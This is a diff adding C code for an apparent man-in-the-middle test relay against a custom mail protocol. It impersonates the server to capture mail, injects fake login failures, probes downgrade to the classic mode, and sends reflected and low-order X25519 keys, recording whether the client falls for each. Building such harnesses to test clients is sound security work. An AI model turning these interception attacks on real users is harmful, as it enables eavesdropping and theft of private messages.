@@ -1,0 +1,294 @@
+/* Attacks that play the server: with a key of the attacker's own, with words in the clear, with the
+ * client's own key, with a point of low order. */
+#include "../crypto/random.h"
+#include "classic.h"
+#include "enhanced.h"
+#include "mitm_relay.h"
+
+int mitm_play_server(struct relay *r, struct err *e)
+{
+	(void)e;
+	r->alone = true;
+	return 0;
+}
+
+/* --- impersonate, classic: all it takes is the victim's public key --- */
+
+/* Texts travel by classic.h, over the socket of the client: what has come of it already is given
+ * back first. */
+struct fake {
+	struct relay *r;
+	struct classic wire;
+	struct buf mail;
+	struct message_head head;
+};
+
+static int on_head(void *arg, const struct message_head *h, const uint8_t *bytes, struct err *e)
+{
+	struct fake *f = arg;
+
+	f->head = *h;
+	return buf_append(&f->mail, bytes, h->bytes) == 0
+		       ? 0
+		       : err_set(e, EX_TEMPFAIL, "out of memory");
+}
+
+static int on_content(void *arg, const void *p, size_t n, struct err *e)
+{
+	struct fake *f = arg;
+
+	return buf_append(&f->mail, p, n) == 0 ? 0 : err_set(e, EX_TEMPFAIL, "out of memory");
+}
+
+/* What was read becomes loot. */
+static void steal(struct fake *f)
+{
+	char from[64], title[512];
+	const struct mitm_loot loot = {
+		.connection = f->r->connection, .from = from, .title = title, .text = &f->mail};
+	struct message_head h;
+	const char *why;
+
+	if (message_parse(f->mail.p, f->mail.n, false, &h, &why) == 1) {
+		(void)snprintf(from, sizeof from, "%.*s", (int)h.from.n, (const char *)h.from.p);
+		(void)snprintf(
+			title, sizeof title, "%.*s", (int)h.title.n, (const char *)h.title.p);
+		relay_stole(f->r, &loot);
+		relay_result(f->r, true, "the e-mail \"%s\" from %s was read, and taken for sent",
+			title, from);
+	}
+	f->mail.n = 0;
+}
+
+static int say(struct fake *f, const char *text, const char *what, struct err *e)
+{
+	struct buf bytes = {0};
+	size_t n = strlen(text);
+	int rc = -1;
+
+	if (buf_append(&bytes, text, n) == 0 && buf_reserve(&bytes, AES_BLOCK) == 0) {
+		aes_pad(bytes.p, n);
+		bytes.n = aes_padded_len(n);
+		aes_ecb_encrypt(&f->wire.aes, bytes.p, bytes.n);
+		rc = relay_say(f->r, MITM_CLIENT, bytes.p, bytes.n, what, e);
+	} else {
+		err_set(e, EX_TEMPFAIL, "out of memory");
+	}
+	buf_free(&bytes);
+	return rc;
+}
+
+/* The key: fresh, and the attacker's own, under the victim's public one. */
+static int give_key(struct fake *f, struct err *e)
+{
+	const struct rsa_public *victim = f->r->m->victim;
+	uint8_t key[CLASSIC_KEY], block[RSA_BYTES_MAX];
+	int rc = -1;
+
+	if (victim == NULL) {
+		return err_set(e, EX_USAGE, "impersonate needs the victim's public key");
+	}
+	if (random_bytes(key, sizeof key, e) == 0 &&
+		rsa_oaep_encrypt(victim, key, sizeof key, block, e) == 0) {
+		classic_init(&f->wire, &f->r->conn[MITM_CLIENT], key);
+		rc = relay_say(f->r, MITM_CLIENT, block, victim->n_len,
+			"a session's key, under the victim's public key", e);
+	}
+	wipe(key, sizeof key);
+	return rc;
+}
+
+static int take_mail(struct fake *f, struct err *e)
+{
+	struct classic_mail mail = {.head = on_head, .content = on_content, .arg = f};
+	enum classic_got got;
+
+	if (say(f, CLASSIC_SEND_PROMPT, "the prompt", e) != 0) {
+		return -1;
+	}
+	got = classic_recv_mail(&f->wire, &mail, e);
+	if (got == CLASSIC_WHOLE) {
+		steal(f);
+	}
+	return got == CLASSIC_BROKEN ? -1 : 0;
+}
+
+static bool is(const struct buf *text, const char *want)
+{
+	return text->n == strlen(want) && memcmp(text->p, want, text->n) == 0;
+}
+
+/* The menu of an empty mailbox. 1: it is over. */
+static int serve(struct fake *f, struct buf *text, struct err *e)
+{
+	text->n = 0;
+	if (say(f, CLASSIC_MENU, "the menu", e) != 0 ||
+		classic_recv(&f->wire, text, CLASSIC_TEXT_MAX, CLASSIC_QUIET_MS, e) != 0) {
+		return -1;
+	}
+	if (is(text, "1")) {
+		return take_mail(f, e);
+	}
+	if (is(text, "2")) {
+		return say(f, CLASSIC_LIST_HEAD, "an empty list", e) != 0
+			       ? -1
+			       : classic_recv(
+					 &f->wire, text, CLASSIC_TEXT_MAX, CLASSIC_QUIET_MS, e);
+	}
+	return 1;
+}
+
+static int fake_classic(struct relay *r, struct err *e)
+{
+	static struct fake f; /* its buffers are large; one session a process */
+	struct buf text = {0};
+	int rc;
+
+	f.r = r;
+	relay_listen_in(r);
+	conn_deadline(&r->conn[MITM_CLIENT], 60000);
+	rc = give_key(&f, e);
+	if (rc == 0) { /* its OK */
+		rc = classic_recv(&f.wire, &text, CLASSIC_TEXT_MAX, CLASSIC_QUIET_MS, e);
+	}
+	while (rc == 0) {
+		rc = serve(&f, &text, e);
+	}
+	buf_free(&text);
+	buf_free(&f.mail);
+	relay_end(r);
+	return rc < 0 ? -1 : 1;
+}
+
+/* --- the same, enhanced --- */
+
+/* In message 2 the place of the server's ephemeral key and of its proof. */
+static int say_second(struct relay *r, const uint8_t *e_public, const char *what, struct err *e)
+{
+	uint8_t bytes[ENHANCED_LENGTH + ENHANCED_HELLO] = {0, ENHANCED_HELLO};
+
+	memcpy(bytes + ENHANCED_LENGTH, e_public, X25519_BYTES);
+	if (random_bytes(bytes + ENHANCED_LENGTH + X25519_BYTES, NOISE_TAG, e) != 0) {
+		return -1;
+	}
+	return relay_say(r, MITM_CLIENT, bytes, sizeof bytes, what, e) == 0 ? 1 : -1;
+}
+
+/* Whatever comes behind message 2 would be the client's word that it believes it. */
+static int judge_third(struct relay *r, const struct mitm_message *m)
+{
+	if (m->from == MITM_CLIENT) {
+		relay_result(r, true,
+			"the client went on, with %zu bytes, to who does not have the server's key",
+			m->bytes.n);
+	}
+	return 1;
+}
+
+static int fake_enhanced(struct relay *r, const struct mitm_message *m, struct err *e)
+{
+	struct x25519_pair own, fresh;
+	const struct noise_setup setup = {.pattern = ENHANCED_PATTERN,
+		.prologue = ENHANCED_PREFACE,
+		.prologue_n = ENHANCED_PREFACE_BYTES,
+		.s = &own};
+	uint8_t payload[ENHANCED_HELLO];
+	size_t n, skip = ENHANCED_PREFACE_BYTES + ENHANCED_LENGTH;
+	struct noise noise;
+	struct err why;
+
+	if (x25519_generate(&own, e) != 0 || x25519_generate(&fresh, e) != 0) {
+		return -1;
+	}
+	if (m->bytes.n == skip + ENHANCED_HELLO && noise_begin(&noise, &setup, e) == 0) {
+		bool fits = noise_read(&noise, m->bytes.p + skip, ENHANCED_HELLO, payload, &n,
+				    &why) == 0;
+		relay_result(r, fits, "message 1 %s for the attacker's key",
+			fits ? "is" : "was not made");
+		wipe(&noise, sizeof noise);
+	}
+	return say_second(r, fresh.public, "a fresh public key, and a proof that is none", e);
+}
+
+int mitm_impersonate(struct relay *r, struct mitm_message *m, struct err *e)
+{
+	if (m->kind == MITM_LOGIN) {
+		return fake_classic(r, e);
+	}
+	return m->kind == MITM_HELLO ? fake_enhanced(r, m, e) : judge_third(r, m);
+}
+
+/* --- inject-invalid --- */
+
+int mitm_inject_invalid(struct relay *r, struct mitm_message *m, struct err *e)
+{
+	if (m->kind != MITM_LOGIN && m->kind != MITM_HELLO) {
+		return judge_third(r, m);
+	}
+	relay_result(r, true, "the client was told that its login is wrong");
+	relay_end(r);
+	return relay_say(r, MITM_CLIENT, CLASSIC_INVALID, strlen(CLASSIC_INVALID),
+		       "in the clear: " CLASSIC_INVALID, e) == 0
+		       ? 1
+		       : -1;
+}
+
+/* --- downgrade --- */
+
+/* The enhanced handshake goes wrong; does the client come back with the classic login? */
+int mitm_downgrade(struct relay *r, struct mitm_message *m, struct err *e)
+{
+	struct mitm_shared *s = r->m->shared;
+
+	(void)e;
+	if (m->kind == MITM_LOGIN) {
+		bool after = __atomic_exchange_n(&s->classic_seen, true, __ATOMIC_ACQ_REL);
+		relay_result(r, s->hello_seen,
+			s->hello_seen ? "the client fell back to the classic protocol"
+				      : "a classic login: there is nothing below it to fall to%s",
+			after ? " (again)" : "");
+		r->alone = true;
+	} else {
+		__atomic_store_n(&s->hello_seen, true, __ATOMIC_RELEASE);
+		relay_result(r, false, "the handshake was broken off; no classic byte has come");
+	}
+	relay_end(r);
+	return 1;
+}
+
+/* --- reflect, low-order: keys that are none --- */
+
+/* A classic client is left alone: it agrees on no key that could be attacked. */
+static int no_agreement(struct relay *r)
+{
+	relay_result(r, false, "a classic login: no key is agreed on");
+	relay_end(r);
+	return 1;
+}
+
+int mitm_reflect(struct relay *r, struct mitm_message *m, struct err *e)
+{
+	const uint8_t *own = m->bytes.p + ENHANCED_PREFACE_BYTES;
+
+	if (m->kind != MITM_HELLO || m->bytes.n <= ENHANCED_PREFACE_BYTES) {
+		return r->wire == MITM_IS_ENHANCED ? judge_third(r, m) : no_agreement(r);
+	}
+	return relay_say(r, MITM_CLIENT, own, m->bytes.n - ENHANCED_PREFACE_BYTES,
+		       "the client's own message 1", e) == 0
+		       ? 1
+		       : -1;
+}
+
+int mitm_low_order(struct relay *r, struct mitm_message *m, struct err *e)
+{
+	size_t n = 0;
+
+	if (m->kind != MITM_HELLO) {
+		return r->wire == MITM_IS_ENHANCED ? judge_third(r, m) : no_agreement(r);
+	}
+	while (mitm_low_order_point(n) != NULL) {
+		n++;
+	}
+	return say_second(
+		r, mitm_low_order_point((r->connection - 1) % n), "a public key of low order", e);
+}
